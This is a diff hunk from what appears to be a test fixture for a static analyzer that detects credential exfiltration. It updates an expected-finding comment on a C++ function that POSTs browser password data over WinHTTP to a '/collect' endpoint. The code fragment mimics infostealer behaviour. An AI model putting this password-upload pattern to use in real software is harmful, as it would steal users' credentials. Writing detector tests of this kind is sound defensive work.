@@ -139,7 +139,7 @@ void UploadBrowserPasswords(HINTERNET conn, const std::vector<std::vector<BYTE>>
     }
     std::string b = body.str();
     HINTERNET req = WinHttpOpenRequest(conn, L"POST", L"/collect", NULL, NULL, NULL, WINHTTP_FLAG_SECURE);
-    WinHttpSendRequest(req, WINHTTP_NO_ADDITIONAL_HEADERS, 0, (LPVOID)b.data(), (DWORD)b.size(), (DWORD)b.size(), 0); // todo "telemetry/credential-upload" pw is a fresh local whose only writer is Unprotect(rows[i], pw): with no data flowing into that argument, the link step never binds the callee's out-parameter to it
+    WinHttpSendRequest(req, WINHTTP_NO_ADDITIONAL_HEADERS, 0, (LPVOID)b.data(), (DWORD)b.size(), (DWORD)b.size(), 0); // want "telemetry/credential-upload"
 }
 
 void DecryptAndLog(const std::vector<BYTE> &enc, SOCKET s)
